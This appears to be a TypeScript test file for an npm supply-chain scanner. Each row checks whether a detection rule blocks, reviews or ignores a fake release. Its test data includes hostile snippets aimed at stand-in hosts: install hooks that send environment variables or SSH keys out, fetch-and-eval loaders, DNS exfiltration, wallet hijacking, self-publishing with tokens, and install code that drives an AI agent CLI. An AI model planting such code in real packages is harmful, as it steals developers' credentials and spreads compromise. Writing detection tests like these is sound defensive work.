// Every blocking rule about code, one term short: what an attacker gains by falsifying a single term is at most a review,
// or the row says why it is nothing. The package is old, and so is the release: no rule about youth helps.
import { checkRows, type Row, releasesWith } from './one-term-short.ts'

const about = 'published: 2026-06-01T00:00:00Z, before: { published: 2025-01-01T00:00:00Z }'
const plain = 'exports.parse = (text) => text.split(",")\n'

const release = releasesWith(plain)
const before = release('1.0.0', {})
const hook = { scripts: { postinstall: 'node setup.js' } }
const onInstall = (code: string) => release('1.0.1', { 'setup.js': code }, hook)
const onImport = (code: string) => release('1.0.1', { 'index.js': plain + code })
const row = (term: string, after: string, gives: string, because = ''): Row => ({
  term,
  before,
  after,
  about,
  gives,
  because,
})

const post = (what: string) => `fetch("https://c.example.test/", { method: "POST", body: ${what} })\n`
const environment = 'JSON.stringify(process.env)'
const keys = 'require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa", "utf8")'
const page = 'fetch("https://p.example.test/c").then((r) => r.text())'
const far = `const a = 1${' '.repeat(300)}; `
const chain = `fetch("https://rpc.example.test", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", method: "eth_getTransactionByHash", params: [] }) }).then((r) => r.text())`
const wrapped = 'const old = window.fetch\nwindow.fetch = (...args) => old(...args)\n'
const wallet = 'if (window.ethereum) window.ethereum.request({ method: "eth_accounts" })\n'
const publish = 'require("child_process").execSync("npm publish")\n'
const token = 'exports.t = process.env.NPM_TOKEN\n'

const rows: Readonly<Record<string, readonly Row[]>> = {
  'install-code-sends-secrets': [
    row('none', onInstall(post(environment)), 'block'),
    row('on install, but on import', onImport(post(environment)), 'block'),
    row('a secret, but the name of the machine', onInstall(post('require("os").hostname()')), 'review'),
    row('sent, but kept in a file', onInstall(`require("fs").writeFileSync("e.json", ${environment})`), 'review'),
  ],
  'environment-sent': [
    row('none', onImport(post(environment)), 'block'),
    row('the environment, but one variable', onImport(post('process.env.NPM_TOKEN')), 'review'),
    row('sent, but kept', onImport(`exports.e = ${environment}`), 'quiet', 'nothing leaves'),
    row(
      'reached, but by its path alone',
      release('1.0.1', { 'more.js': post(environment) }),
      'quiet',
      'nobody runs it until another change leads to it, which is news again',
    ),
  ],
  'install-code-runs-what-it-fetches': [
    row('none', onInstall(`${page}.then((t) => eval(t))`), 'block'),
    row('on install, but on import', onImport(`${page}.then((t) => eval(t))`), 'block'),
    row('run, but kept', onInstall(`${page}.then((t) => require("fs").writeFileSync("t.txt", t))`), 'review'),
    row(
      'fetched, but in the tarball',
      onInstall('eval(require("fs").readFileSync(__dirname + "/a.txt", "utf8"))'),
      'review',
    ),
  ],
  'hidden-code-gains-powers': [
    row('none', onImport(`${page}.then((t) => eval(t))`), 'block'),
    row('evaluated, but parsed', onImport(`${page}.then((t) => JSON.parse(t))`), 'review'),
    row(
      'fetched, but decoded',
      onImport(`eval(Buffer.from("${'Y29uc29sZS5sb2coMSk7'.repeat(6)}", "base64").toString())`),
      'review',
    ),
  ],
  'disguised-code-gains-powers': [
    row('none', onImport(`${far}require("child_process").exec("x")`), 'block'),
    row(
      'disguised',
      onImport('require("child_process").exec("x")'),
      'quiet',
      'a program that is started with a constant in plain sight is what most tools do',
    ),
    row('powers', onImport(`${far}exports.b = 2`), 'review'),
  ],
  'install-code-covers-its-tracks': [
    row('none', onInstall('require("fs").unlinkSync(__filename)'), 'block'),
    row('its own file, but another one', onInstall('require("fs").unlinkSync("setup.js.bak")'), 'review'),
    row('on install, but on import', onImport('require("fs").unlinkSync(__filename)'), 'review'),
  ],
  'wallet-and-network-taken-over': [
    row('none', onImport(wrapped + wallet), 'block'),
    row('the wallet', onImport(wrapped), 'review'),
    row('the network', onImport(wallet), 'quiet', 'every application for wallets asks them'),
  ],
  'credentials-read-and-sent': [
    row('none', onImport(`exports.x = () => ${post(keys)}`), 'block'),
    row('sent, but given back', onImport(`exports.x = () => ${keys}`), 'review'),
    row('files, but a variable', onImport(`exports.x = () => ${post('process.env.NPM_TOKEN')}`), 'review'),
  ],
  'install-code-plants-itself': [
    row('none', onInstall('require("fs").writeFileSync(".vscode/tasks.json", "{}")'), 'block'),
    row('on install, but on import', onImport('require("fs").writeFileSync(".vscode/tasks.json", "{}")'), 'review'),
    row('where programs start, but elsewhere', onInstall('require("fs").writeFileSync("tasks.json", "{}")'), 'review'),
  ],
  'spreads-with-secrets': [
    row('none', onImport(publish + token), 'block'),
    row('secrets', onImport(publish), 'review'),
    row('publishes', onImport(token), 'quiet', 'a variable that is read and goes nowhere'),
  ],
  'install-code-drives-agents': [
    row('none', onInstall('require("child_process").spawnSync("claude", ["-p", "list files"])'), 'block'),
    row('an agent, but another program', onInstall('require("child_process").spawnSync("git", ["status"])'), 'review'),
    row(
      'on install, but on import',
      onImport('require("child_process").spawnSync("claude", ["-p", "list files"])'),
      'review',
    ),
  ],
  'secrets-in-dns': [
    row('none', onImport('require("dns").lookup(require("os").hostname() + ".d.example.test", () => {})'), 'block'),
    row('by name, but by address', onImport(post('require("os").hostname()')), 'review'),
    row(
      'made from a fact, but constant',
      onImport('require("dns").lookup("d.example.test", () => {})'),
      'quiet',
      'a constant question tells nobody anything',
    ),
  ],
  'orders-from-a-dead-drop': [
    row('none', onImport(`${chain}.then((t) => eval(t))`), 'block'),
    row('runs', onImport(`${chain}.then((t) => console.log(t))`), 'review'),
    row('the chain, but a page', onImport(`${page}.then((t) => eval(t))`), 'block'),
  ],
}

checkRows(rows)
